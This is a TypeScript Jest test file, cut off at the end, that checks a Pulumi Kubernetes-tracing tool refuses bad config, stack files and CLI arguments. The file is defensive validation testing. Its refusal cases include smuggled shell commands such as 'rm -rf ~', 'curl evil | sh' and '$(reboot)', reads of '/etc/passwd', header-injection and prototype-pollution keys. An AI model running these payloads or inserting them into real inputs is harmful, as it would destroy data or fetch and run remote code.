// Every bad input a hostile or careless user could give, through every door it can come in:
// the stack's config under `pulumi up` (run under mocks), a stack file under `npm run render`,
// render's and verify's arguments, and the outputs verify reads. Each must be refused, with the
// setting (or flag, or output) named, before anything is created: no resource registered, no
// directory written, no request sent. Then the inputs accepted on purpose, each with its reason,
// and a property: any generated config is refused with a key named, or renders files that pass
// the render-time checks.
import * as fs from "fs";
import * as http from "http";
import * as path from "path";
import * as fc from "fast-check";
import { parse as parseToml } from "smol-toml";
import { parse as parseYaml, parseAllDocuments } from "yaml";
import { DaemonSet } from "kubernetes-models/apps/v1/DaemonSet";
import { ConfigError, COMPONENTS, SETTINGS } from "../settings/settings";
import { stackNames } from "../stack/names";
import { renderStack } from "../config-files/render-stack";
import { render } from "../scripts/render";
import { main as verifyMain } from "../scripts/verify";
import { settingsOf, useTempDirs } from "./helpers";
import { runRefused } from "./pulumi-harness";

const tmp = useTempDirs("corpus");
const HEX64 = "a".repeat(64);

/** A config as Pulumi hands it to the program (strings), the key the error must name, and whether it tries injection. */
type ProgramCase = [config: Record<string, string>, named: string, injection?: "injection"];

const PROGRAM_CASES: ProgramCase[] = [
    // engine
    [{ engine: "minikube" }, "kubetracing:engine"],
    [{ engine: "K3D" }, "kubetracing:engine"],
    [{ engine: "" }, "kubetracing:engine"],
    [{ engine: " k3d" }, "kubetracing:engine"],
    [{ engine: "k3s" }, "kubetracing:engine"],
    [{ engine: "k3d;rm -rf ~" }, "kubetracing:engine", "injection"],
    [{ engine: "$(reboot)" }, "kubetracing:engine", "injection"],
    [{ engine: "kind\nworkers: 9" }, "kubetracing:engine", "injection"],
    // kubernetesVersion
    [{ kubernetesVersion: "1.24" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "1.29.99" }, "kubetracing:kubernetesVersion"],
    [{ engine: "kind", kubernetesVersion: "1.29.99" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "latest" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "1.3" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "v1.99" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "1.34 " }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: " 1.34" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "x.y" }, "kubetracing:kubernetesVersion"],
    [{ kubernetesVersion: "1.34; echo pwned" }, "kubetracing:kubernetesVersion", "injection"],
    [{ kubernetesVersion: "1.34\nimage: evil/k3s:1" }, "kubetracing:kubernetesVersion", "injection"],
    [{ kubernetesVersion: "../../etc/passwd" }, "kubetracing:kubernetesVersion", "injection"],
    [{ kubernetesVersion: "v1.34.9+k3s1 && id" }, "kubetracing:kubernetesVersion", "injection"],
    // workers
    [{ workers: "-1" }, "kubetracing:workers"],
    [{ workers: "11" }, "kubetracing:workers"],
    [{ workers: "two" }, "kubetracing:workers"],
    [{ workers: "1.5" }, "kubetracing:workers"],
    [{ workers: "2.0" }, "kubetracing:workers"],
    [{ workers: "0x5" }, "kubetracing:workers"],
    [{ workers: "1e1" }, "kubetracing:workers"],
    [{ workers: "" }, "kubetracing:workers"],
    [{ workers: " 1" }, "kubetracing:workers"],
    [{ workers: "99999999999999999999" }, "kubetracing:workers"],
    [{ workers: "1; id" }, "kubetracing:workers", "injection"],
    // tracedComponents
    [{ tracedComponents: '["etcd","scheduler"]' }, "kubetracing:tracedComponents"],
    [{ tracedComponents: '["etcd","etcd"]' }, "kubetracing:tracedComponents"],
    [{ tracedComponents: "etcd" }, "kubetracing:tracedComponents"],
    [{ tracedComponents: "[]" }, "kubetracing:tracedComponents"],
    [{ tracedComponents: "[1]" }, "kubetracing:tracedComponents"],
    [{ tracedComponents: "[null]" }, "kubetracing:tracedComponents"],
    [{ tracedComponents: '{"etcd": true}' }, "kubetracing:tracedComponents"],
    [{ tracedComponents: '["ETCD"]' }, "kubetracing:tracedComponents"],
    [{ tracedComponents: '[" etcd"]' }, "kubetracing:tracedComponents"],
    [{ tracedComponents: "[" }, "kubetracing:tracedComponents"],
    [{ tracedComponents: '["etcd;id"]' }, "kubetracing:tracedComponents", "injection"],
    [{ tracedComponents: '["__proto__"]' }, "kubetracing:tracedComponents", "injection"],
    // sampling rates
    [{ samplingRatePerMillion: "1000001" }, "kubetracing:samplingRatePerMillion"],
    [{ samplingRatePerMillion: "-5" }, "kubetracing:samplingRatePerMillion"],
    [{ samplingRatePerMillion: "-1" }, "kubetracing:samplingRatePerMillion"],
    [{ samplingRatePerMillion: "0.5" }, "kubetracing:samplingRatePerMillion"],
    [{ samplingRatePerMillion: "1e6" }, "kubetracing:samplingRatePerMillion"],
    [{ samplingRatePerMillion: "10%" }, "kubetracing:samplingRatePerMillion"],
    [{ samplingRatePerMillion: "" }, "kubetracing:samplingRatePerMillion"],
    ...COMPONENTS.flatMap((c): ProgramCase[] => [
        [{ [`${c}SamplingRatePerMillion`]: "2000000" }, `kubetracing:${c}SamplingRatePerMillion`],
        [{ [`${c}SamplingRatePerMillion`]: "-2" }, `kubetracing:${c}SamplingRatePerMillion`],
        [{ [`${c}SamplingRatePerMillion`]: "half" }, `kubetracing:${c}SamplingRatePerMillion`],
    ]),
    // hostBindAddress
    [{ hostBindAddress: "localhost" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: "256.0.0.1" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: "::1" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: "127.0.0.1:80" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: "" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: " 127.0.0.1" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: "1.2.3" }, "kubetracing:hostBindAddress"],
    [{ hostBindAddress: "0.0.0.0; curl evil" }, "kubetracing:hostBindAddress", "injection"],
    // ports
    ...(["jaegerUiPort", "otlpGrpcPort", "otlpHttpPort"] as const).flatMap((k): ProgramCase[] => [
        [{ [k]: "70000" }, `kubetracing:${k}`],
        [{ [k]: "80" }, `kubetracing:${k}`],
        [{ [k]: "-1" }, `kubetracing:${k}`],
        [{ [k]: "http" }, `kubetracing:${k}`],
    ]),
    [{ otlpGrpcPort: "4317", otlpHttpPort: "4317" }, "kubetracing:otlpHttpPort"],
    [{ jaegerUiPort: "16686", otlpGrpcPort: "16686" }, "kubetracing:otlpGrpcPort"],
    // images
    [{ jaegerImage: "jaegertracing/jaeger:latest" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "jaegertracing/jaeger" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "a@sha256:zzz" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: `a@sha256:${"a".repeat(63)}` }, "kubetracing:jaegerImage"],
    [{ jaegerImage: `a@sha512:${HEX64}${HEX64}` }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "a b:1" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "Jaeger:1" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: ":1" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "a::1" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "a:-1" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "a//b:1" }, "kubetracing:jaegerImage"],
    [{ jaegerImage: "foo:1;rm -rf ~" }, "kubetracing:jaegerImage", "injection"],
    [{ jaegerImage: "$(id):1" }, "kubetracing:jaegerImage", "injection"],
    [{ jaegerImage: "a:1\nb" }, "kubetracing:jaegerImage", "injection"],
    [{ jaegerImage: "a:`id`" }, "kubetracing:jaegerImage", "injection"],
    [{ jaegerImage: "--privileged" }, "kubetracing:jaegerImage", "injection"],
    [{ collectorImage: "otel/opentelemetry-collector:latest" }, "kubetracing:collectorImage"],
    [{ collectorImage: "otel/opentelemetry-collector" }, "kubetracing:collectorImage"],
    [{ collectorImage: "OTEL/collector:1" }, "kubetracing:collectorImage"],
    [{ collectorImage: " otel/opentelemetry-collector:0.159.0" }, "kubetracing:collectorImage"],
    [{ collectorImage: "otel/opentelemetry-collector:0.159.0 " }, "kubetracing:collectorImage"],
    [{ collectorImage: "-a:1" }, "kubetracing:collectorImage"],
    [{ collectorImage: "x:1 && curl evil | sh" }, "kubetracing:collectorImage", "injection"],
    [{ collectorImage: "x:1'\"" }, "kubetracing:collectorImage", "injection"],
    // kindEtcdImage
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:3.4.13-0" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:9.9.9" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:3.8.0-0" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: " registry.k8s.io/etcd:3.5.12-0" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:3.5.12-0 " }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/pause:3.9" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/notetcd:3.5.12-0" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:latest" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: `registry.k8s.io/etcd:3.5.12-0@sha256:${HEX64}` }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: "etcd:3.5.12" }, "kubetracing:kindEtcdImage"],
    [{ engine: "kind", kindEtcdImage: ";;;/etcd:3.5.12" }, "kubetracing:kindEtcdImage", "injection"],
    [{ engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:3.5.12-0\n  extraArgs: {}" }, "kubetracing:kindEtcdImage", "injection"],
    [{ engine: "k3d", kindEtcdImage: "registry.k8s.io/etcd:3.5.12-0" }, "kubetracing:kindEtcdImage"],
    // backend sizes
    [{ jaegerMaxTraces: "10" }, "kubetracing:jaegerMaxTraces"],
    [{ jaegerMaxTraces: "2000000" }, "kubetracing:jaegerMaxTraces"],
    [{ jaegerMaxTraces: "many" }, "kubetracing:jaegerMaxTraces"],
    [{ collectorMemoryLimitMiB: "16" }, "kubetracing:collectorMemoryLimitMiB"],
    [{ collectorMemoryLimitMiB: "9000" }, "kubetracing:collectorMemoryLimitMiB"],
    [{ collectorMemoryLimitMiB: "512MiB" }, "kubetracing:collectorMemoryLimitMiB"],
    // node agent
    [{ inClusterCollector: "yes" }, "kubetracing:inClusterCollector"],
    [{ inClusterCollector: "1" }, "kubetracing:inClusterCollector"],
    [{ inClusterCollector: "True" }, "kubetracing:inClusterCollector"],
    [{ inClusterCollector: "" }, "kubetracing:inClusterCollector"],
    [{ controlPlaneTraceTarget: "agent" }, "kubetracing:controlPlaneTraceTarget"],
    [{ controlPlaneTraceTarget: "node-agent" }, "kubetracing:controlPlaneTraceTarget"],
    [{ controlPlaneTraceTarget: "" }, "kubetracing:controlPlaneTraceTarget"],
    [{ controlPlaneTraceTarget: "Backend" }, "kubetracing:controlPlaneTraceTarget"],
    // team exporters and localJaeger (header values are not Pulumi secrets here, so any header is refused too)
    ...((): ProgramCase[] => {
        const one = (entry: Record<string, unknown>) =>
            JSON.stringify([{ name: "tempo", endpoint: "https://tempo.example.com:4317", protocol: "grpc", ...entry }]);
        return [
            [{ exporters: "tempo" }, "kubetracing:exporters"],
            [{ exporters: "[" }, "kubetracing:exporters"],
            [{ exporters: '{"name":"tempo"}' }, "kubetracing:exporters"],
            [{ exporters: '["tempo"]' }, "kubetracing:exporters[0]"],
            [{ exporters: "[null]" }, "kubetracing:exporters[0]"],
            [{ exporters: one({ endpoint: undefined }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ endpoint: "tempo:4317" }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ endpoint: "https://u:p@tempo:4317" }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ endpoint: "https://tempo:4317?key=x" }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ endpoint: "http://tempo:4317" }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ endpoint: "https://tempo:4317/v1/traces" }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ endpoint: "file:///etc/passwd", protocol: "http" }) }, "kubetracing:exporters[0].endpoint", "injection"],
            [{ exporters: one({ endpoint: "https://tempo:4317/${env:HOME}" }) }, "kubetracing:exporters[0].endpoint", "injection"],
            [{ exporters: one({ endpoint: "https://tempo:4317\nexporters: {}" }) }, "kubetracing:exporters[0].endpoint", "injection"],
            [{ exporters: one({ protocol: "quic" }) }, "kubetracing:exporters[0].protocol"],
            [{ exporters: one({ protocol: undefined }) }, "kubetracing:exporters[0].protocol"],
            [{ exporters: one({ insecure: "yes" }) }, "kubetracing:exporters[0].insecure"],
            [{ exporters: one({ insecure: true }) }, "kubetracing:exporters[0].endpoint"],
            [{ exporters: one({ name: "Tempo" }) }, "kubetracing:exporters[0].name"],
            [{ exporters: one({ name: "jaeger" }) }, "kubetracing:exporters[0].name"],
            [{ exporters: one({ name: "" }) }, "kubetracing:exporters[0].name"],
            [{ exporters: one({ name: "t/../x" }) }, "kubetracing:exporters[0].name", "injection"],
            [{ exporters: one({ name: "t\n  debug: {}" }) }, "kubetracing:exporters[0].name", "injection"],
            [{ exporters: JSON.stringify([JSON.parse(one({}))[0], JSON.parse(one({}))[0]]) }, "kubetracing:exporters[1].name"],
            [{ exporters: JSON.stringify([1, 2, 3, 4, 5].map((i) => ({ ...JSON.parse(one({}))[0], name: `t${i}` }))) }, "kubetracing:exporters"],
            [{ exporters: one({ header: {} }) }, "kubetracing:exporters[0].header"],
            [{ exporters: one({ headers: ["Authorization"] }) }, "kubetracing:exporters[0].headers"],
            [{ exporters: one({ headers: { Authorization: "Bearer in-plain-text" } }) }, "kubetracing:exporters[0].headers.Authorization"],
            [{ exporters: one({ headers: { Host: "evil" } }) }, "kubetracing:exporters[0].headers.Host"],
            [{ exporters: one({ headers: { "X-A\r\nX-B": "v" } }) }, "kubetracing:exporters[0].headers", "injection"],
            [{ exporters: one({ headers: { "${env:PATH}": "v" } }) }, "kubetracing:exporters[0].headers", "injection"],
            [{ exporters: one({}), collectorImage: "otel/opentelemetry-collector:0.110.0" }, "kubetracing:exporters"],
            [{ localJaeger: "false" }, "kubetracing:localJaeger"],
            [{ localJaeger: "no" }, "kubetracing:localJaeger"],
            [{ localJaeger: "" }, "kubetracing:localJaeger"],
        ];
    })(),
    // keys: typos, other casings, near-miss namespaces, prototype names
    [{ samplingRate: "5" }, "kubetracing:samplingRate"],
    [{ Engine: "kind" }, "kubetracing:Engine"],
    [{ worker: "2" }, "kubetracing:worker"],
    [{ "kubetracing:constructor": "x" }, "kubetracing:constructor", "injection"],
    [{ "kubetracing:toString": "x" }, "kubetracing:toString", "injection"],
    [{ "kubetracing:hasOwnProperty": "x" }, "kubetracing:hasOwnProperty", "injection"],
    [{ "kubetracing:__proto__": '{"engine":"kind"}' }, "kubetracing:__proto__", "injection"],
    [{ "kubetracing:valueOf": "1" }, "kubetracing:valueOf", "injection"],
    [{ "kubetracin:engine": "kind" }, "kubetracin:engine"],
    [{ "Kubetracing:engine": "kind" }, "Kubetracing:engine"],
    [{ "KUBETRACING:workers": "2" }, "KUBETRACING:workers"],
    [{ "kubetracng:workers": "2" }, "kubetracng:workers"],
    [{ "kube-tracing:workers": "2" }, "kube-tracing:workers"],
    [{ "kubetracing2:workers": "2" }, "kubetracing2:workers"],
];

/** A stack file under `npm run render`, and what its error must name. */
const STACK_FILE_CASES: [text: string, named: string, injection?: "injection"][] = [
    ["confg:\n  kubetracing:engine: kind\n", '"confg"'],
    ["Config:\n  kubetracing:engine: kind\n", '"Config"'],
    ["encryptionsalt: v1:abc\n", "config:"],
    ["", "config:"],
    ["- a\n- b\n", "config:"],
    ["config:\n", "config:"],
    ["config: []\n", "config:"],
    ["config: kind\n", "config:"],
    ["config:\n  engine: kind\n", '"engine"'],
    ["config:\n  'kubetracing:': kind\n", '"kubetracing:"'],
    ["config:\n  kubetracing:workers: 2.0\n", "kubetracing:workers"],
    ["config:\n  kubetracing:workers: 0x5\n", "kubetracing:workers"],
    ["config:\n  kubetracing:workers: 1e1\n", "kubetracing:workers"],
    ["config:\n  kubetracing:workers: 2_0\n", "kubetracing:workers"],
    ["config:\n  kubetracing:inClusterCollector: yes\n", "kubetracing:inClusterCollector"],
    ["config:\n  kubetracing:tracedComponents: []\n", "kubetracing:tracedComponents"],
    ["config:\n  kubetracing:engine:\n    secure: AAABAK==\n", "kubetracing:engine"],
    ["config:\n  kubetracing:engine: kind\n  kubetracing:engine: k3d\n", "unique"],
    ["config: [\n", "not valid YAML"],
    ["config:\n  kubetracing:exporters:\n    secure: AAABAK==\n", "kubetracing:exporters"],
    [
        "config:\n  kubetracing:exporters:\n    - {name: t, endpoint: 'https://t:4317', protocol: grpc, headers: {Authorization: Bearer x}}\n",
        "kubetracing:exporters[0].headers.Authorization",
    ],
    ["config:\n  kubetracing:exporters:\n    - {name: t, endpoint: {secure: AAABAK==}, protocol: grpc}\n", "kubetracing:exporters[0].endpoint"],
    ["config:\n  kubetracing:localJaeger: false\n", "kubetracing:localJaeger"],
    ["config:\n  kubetracing:__proto__:\n    engine: kind\n", "kubetracing:__proto__", "injection"],
    ["config:\n  kubetracing:engine: !!js/function 'function () {}'\n", "kubetracing:engine", "injection"],
    ["config:\n  kubetracing:jaegerImage: &a x:1\n  kubetracing:collectorImage: *a\n  kubetracing:kindEtcdImage: *a\n", "kubetracing:kindEtcdImage"],
];

/** render's own arguments, and the flag its error must name. */
const RENDER_ARG_CASES: [argv: (out: string) => string[], named: string, injection?: "injection"][] = [
    [(_out) => ["--stack", "dev", "--out", "/proc/kubetracing-corpus/out"], "--out"],
    [(out) => ["--stack", "dev", "--out", path.join(out, "taken")], "--out"],
    [(out) => ["--stack", "../../etc/x", "--out", out], "--stack", "injection"],
    [(out) => ["--stack", "dev;id", "--out", out], "--stack", "injection"],
    [(out) => ["--stack", "no-such-stack", "--out", out], "Pulumi.no-such-stack.yaml"],
    [(out) => ["--stack", "dev", "--config", "Pulumi.dev.yaml", "--out", out], "--stack"],
    [(out) => ["--stack", "dev", "--bogus", out], "--bogus"],
    [(_out) => ["--stack", "dev", "--out"], "--out"],
    [(out) => ["--stack", "dev", "--out", out, "stray"], "stray"],
];

/** verify's arguments and the outputs it reads, the exit code, and what its error must name. */
const VERIFY_CASES: [argv: string[] | ((file: (o: unknown) => string) => string[]), named: string, injection?: "injection"][] = [
    [[], "--outputs"],
    [["--stack", "dev", "--outputs", "o.json"], "--outputs"],
    [["--bogus"], "--bogus"],
    [["--outputs"], "--outputs"],
    [["--outputs", "o.json", "--timeout", "soon"], "--timeout"],
    [["--outputs", "o.json", "--timeout", "0"], "--timeout"],
    [["--outputs", "o.json", "--timeout=-1"], "--timeout"],
    [["--outputs", "o.json", "--timeout", "1e9"], "--timeout"],
    [["--outputs", "o.json", "--timeout", "Infinity"], "--timeout"],
    [["--outputs", "o.json", "--timeout", "1;id"], "--timeout", "injection"],
    [(file) => ["--outputs", file(null)], "outputs are null"],
    [(file) => ["--outputs", file([])], "outputs are a list"],
    [(file) => ["--outputs", file("text")], "outputs are string"],
    [(file) => ["--outputs", file({ foo: 1 })], "jaegerUrl or tracedComponents"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://127.0.0.1:1", tracedComponents: [] })], "tracedComponents"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://127.0.0.1:1", tracedComponents: ["scheduler"] })], "tracedComponents"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://127.0.0.1:1", tracedComponents: ["etcd", "etcd"] })], "tracedComponents"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://127.0.0.1:1", tracedComponents: "etcd" })], "tracedComponents"],
    [(file) => ["--outputs", file({ jaegerUrl: "file:///etc/passwd", tracedComponents: ["etcd"] })], "jaegerUrl", "injection"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://user:pw@127.0.0.1:1", tracedComponents: ["etcd"] })], "jaegerUrl"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://127.0.0.1:1/?x=$(id)", tracedComponents: ["etcd"] })], "jaegerUrl", "injection"],
    [(file) => ["--outputs", file({ jaegerUrl: "javascript:alert(1)", tracedComponents: ["etcd"] })], "jaegerUrl", "injection"],
    [(file) => ["--outputs", file({ jaegerUrl: 5, tracedComponents: ["etcd"] })], "jaegerUrl"],
    [(file) => ["--outputs", file({ jaegerUrl: "http://127.0.0.1:1", tracedComponents: ["etcd"], kubeconfig: 7 })], "kubeconfig"],
];

/** Accepted on purpose: the input, and why it is right to take it (and what the user is told, if anything). */
const ACCEPTED_ON_PURPOSE: [config: Record<string, string>, why: string, note?: RegExp][] = [
    [
        { hostBindAddress: "0.0.0.0" },
        "exposing Jaeger to the LAN is a legitimate choice; it is warned about",
        /hostBindAddress = 0\.0\.0\.0: .*no authentication/,
    ],
    [{ hostBindAddress: "192.168.1.10" }, "one interface of this machine; warned about", /no authentication/],
    [{ hostBindAddress: "127.0.0.2" }, "any loopback address stays on this machine"],
    [
        { "aws:region": "eu-west-1" },
        "another program's namespace in a shared stack file; noted as ignored",
        /aws:region: no provider this stack uses reads the "aws" namespace/,
    ],
    [{ "docker:host": "unix:///run/user/1000/docker.sock" }, "the Docker provider's own setting (rootless Docker)"],
    [{ "pulumi:tags": '{"team":"x"}' }, "Pulumi's own namespace"],
    [{ kubernetesVersion: "v1.34" }, "Kubernetes' own v-prefixed notation"],
    [{ engine: "k3d", kubernetesVersion: "v1.29.3+k3s1" }, "an exact k3s release, as k3s names it"],
    [
        { engine: "kind", kubernetesVersion: "1.29.2" },
        "an old pinned patch: works, the missing etcd sampling flag is explained",
        /etcd 3\.5\.10 has no sampling-rate flag/,
    ],
    [
        { engine: "kind", kindEtcdImage: "registry.k8s.io/etcd:3.5.9-0" },
        "etcd 3.5.0–3.5.10 traces, only without its own sampling rate; explained",
        /no sampling-rate flag/,
    ],
    [{ engine: "kind", kindEtcdImage: "localhost:5000/mirror/etcd:v3.6.4" }, "a local mirror of etcd, v-prefixed tag"],
    [{ jaegerImage: "localhost:5000/jaeger:2.19.0" }, "a local registry"],
    [{ jaegerImage: `cr.jaegertracing.io/jaegertracing/jaeger@sha256:${HEX64}` }, "pinned by digest alone"],
    [{ collectorImage: "otel/opentelemetry-collector:0.110.0" }, "an older Collector: the renderer uses its exporter's old name"],
    [{ samplingRatePerMillion: "0" }, "tracing set up but silent until raised, as documented; explained", /sampling rate 0/],
    [{ workers: "0" }, "a single-node cluster"],
    [{ tracedComponents: '["kubelet","etcd"]' }, "any order, any subset"],
    [{ samplingRatePerMillion: "1000000", etcdSamplingRatePerMillion: "-1" }, "-1 means 'the global rate', as declared"],
    [{ jaegerUiPort: "1024", otlpGrpcPort: "65535" }, "the ends of the unprivileged port range"],
    [{ exporters: '[{"name":"tempo","endpoint":"https://tempo.example.com","protocol":"grpc"}]' }, "a TLS gRPC endpoint without a port: gRPC's default, 443"],
    [
        { exporters: '[{"name":"team","endpoint":"http://tempo:4318","protocol":"http","insecure":"true"}]', localJaeger: "false" },
        "forward only, plaintext to a backend on the stack's network, said out loud with insecure",
    ],
];

describe("bad-input corpus", () => {
    it("has at least 150 cases", () => {
        expect(PROGRAM_CASES.length + STACK_FILE_CASES.length + RENDER_ARG_CASES.length + VERIFY_CASES.length).toBeGreaterThanOrEqual(150);
    });

    describe("the stack's config under pulumi up (mocks)", () => {
        it.each(PROGRAM_CASES.map(([config, named]) => [config, named] as const))("%j is refused naming %s, with nothing registered", async (config, named) => {
            const { error, registrations } = await runRefused(config, { preview: true, stack: "corpus" });
            // index.ts turns the ConfigError into a RunError: the CLI prints the problems without a stack trace.
            expect(require("@pulumi/pulumi").RunError.isInstance(error)).toBe(true);
            expect(error.message).toContain(named);
            expect(registrations).toEqual([]);
        });
    });

    describe("a stack file under npm run render", () => {
        it.each(STACK_FILE_CASES.map(([text, named]) => [text, named] as const))("%j is refused naming %s, writing nothing", (text, named) => {
            const dir = tmp("stack");
            const file = path.join(dir, "Pulumi.corpus.yaml");
            fs.writeFileSync(file, text);
            const out = path.join(dir, "out");
            expect(() => render(["--config", file, "--out", out])).toThrow(named);
            expect(fs.existsSync(out)).toBe(false);
        });
    });

    describe("render's arguments", () => {
        it.each(RENDER_ARG_CASES.map(([argv, named]) => [argv, named] as const))("%s is refused naming %s, writing nothing", (argv, named) => {
            const out = tmp("render-out");
            fs.writeFileSync(path.join(out, "taken"), "a file where a directory would go");
            expect(() => render(argv(out))).toThrow(named);
            expect(fs.readdirSync(out)).toEqual(["taken"]);
            expect(fs.existsSync("/proc/kubetracing-corpus")).toBe(false);
        });
    });

    describe("verify's arguments and outputs", () => {
        let requests = 0;
        const server = http.createServer((_req, res) => {
            requests++;
            res.end("{}");
        });
        let url = "";
        beforeAll(async () => {
            await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
            url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
        });
        afterAll(() => new Promise<void>((r) => server.close(() => r())));

        it.each(VERIFY_CASES.map(([argv, named]) => [argv, named] as const))("%j exits 2 naming %s, asking nothing", async (argv, named) => {
            const errors: string[] = [];
            jest.spyOn(console, "error").mockImplementation((s: unknown) => void errors.push(String(s)));
            jest.spyOn(process.stdout, "write").mockImplementation(() => true);
            const file = (outputs: unknown) => {
                const f = path.join(tmp("outputs"), "outputs.json");
                const withUrl =
                    outputs && typeof outputs === "object" && !Array.isArray(outputs) && (outputs as { jaegerUrl?: string }).jaegerUrl === "http://127.0.0.1:1"
                        ? { ...outputs, jaegerUrl: url }
                        : outputs;
                fs.writeFileSync(f, JSON.stringify(withUrl));
                return f;
            };
            try {
                const code = await verifyMain(typeof argv === "function" ? [...argv(file), "--no-activity"] : argv);
                expect(code).toBe(2);
            } finally {
                jest.restoreAllMocks();
            }
            expect(errors.join("\n")).toContain(named);
            expect(requests).toBe(0);
        });
    });

    describe("accepted on purpose", () => {
        // Three columns always: jest would hand a two-element row's test a `done` callback.
        it.each(ACCEPTED_ON_PURPOSE.map(([config, why, note]) => [config, why, note ?? null] as const))("%j is accepted: %s", (config, _why, note) => {
            const settings = settingsOf(config);
            const rendered = renderStack(settings, stackNames("kubetracing", "corpus"));
            if (note) expect(rendered.notes.join("\n")).toMatch(note);
        });
    });
});

// ---------------------------------------------------------------------------------------------
// Property: any config is refused naming a key it set, or renders files the render-time checks pass.

/** What every rendered stack must satisfy before anything reaches Docker or an engine. */
function checkRendered(config: Record<string, unknown>): void {
    const settings = settingsOf(config);
    const names = stackNames("kubetracing", "property");
    const rendered = renderStack(settings, names);
    for (const a of rendered.artifacts) {
        if (/\.ya?ml$/.test(a.fileName)) {
            for (const doc of parseAllDocuments(a.content)) expect(doc.errors).toEqual([]);
        }
        if (/\.toml$/.test(a.fileName)) expect(() => parseToml(a.content)).not.toThrow();
    }
    const cluster = parseYaml(rendered.artifacts.find((a) => a.role === "cluster-config")!.content);
    // The real k3d and kind validate the rendered configs in the real-binaries tier (tests/real-binaries/engine-configs.test.ts).
    if (settings.engine === "k3d") {
        expect(cluster).toMatchObject({ kind: "Simple", apiVersion: "k3d.io/v1alpha5", metadata: { name: names.cluster }, agents: settings.workers });
    } else {
        expect(cluster).toMatchObject({ kind: "Cluster", apiVersion: "kind.x-k8s.io/v1alpha4", name: names.cluster });
        for (const patch of cluster.kubeadmConfigPatches ?? []) expect(parseYaml(patch)).toHaveProperty("kind");
        for (const patch of cluster.containerdConfigPatches ?? []) expect(() => parseToml(patch)).not.toThrow();
    }
    if (rendered.inClusterCollector) expect(() => new DaemonSet(rendered.inClusterCollector!.objects.daemonSet as never).validate()).not.toThrow();
    // The create script embeds every file the engine needs (renderStack throws if a heredoc terminator is inside one).
    for (const a of rendered.artifacts.filter((a) => a.neededByEngine)) expect(rendered.engineScripts.create).toContain(a.content);
}

const KEYS = Object.keys(SETTINGS);
const valuePool = fc.oneof(
    fc.constantFrom("k3d", "kind", "1.29", "1.29.2", "1.33", "1.34", "1.37", "v1.34", "0", "1", "3", "10", "11", "-1", "100000", "1000000", "2000000"),
    fc.constantFrom("127.0.0.1", "0.0.0.0", "true", "false", "backend", "node-agent", '["etcd"]', '["kubelet","apiserver"]', "[]", '["etcd","etcd"]'),
    fc.constantFrom(
        "otel/opentelemetry-collector:0.150.0",
        "jaeger:2.19.0",
        "registry.k8s.io/etcd:3.5.12-0",
        "registry.k8s.io/etcd:3.4.1",
        "x:latest",
        "a@sha256:zz",
    ),
    fc.constantFrom("4317", "4318", "16686", "1024", "80", "70000", "64", "8192", "1000", "50000"),
    fc.string({ maxLength: 12 }),
    fc.constantFrom("$(id)", "a;b", "a\nb", "'", '"', "`x`", "../x", "{{ x }}", "KUBETRACING_FILE_0_EOF"),
);
const configArbitrary = fc.dictionary(
    fc.oneof(
        { weight: 9, arbitrary: fc.constantFrom(...KEYS) },
        { weight: 1, arbitrary: fc.constantFrom("kubetracing:engine", "kubetracin:workers", "aws:region", "constructor", "__proto__", "samplingrate") },
    ),
    valuePool,
    { maxKeys: 6 },
);

describe("property: refused with a key named, or rendered valid", () => {
    it("holds for any generated config", () => {
        let refused = 0;
        let rendered = 0;
        fc.assert(
            fc.property(configArbitrary, (config) => {
                try {
                    settingsOf(config);
                } catch (err) {
                    if (!(err instanceof ConfigError)) throw err;
                    refused++;
                    // Every problem names a key the config set (or, for a combination, one of them).
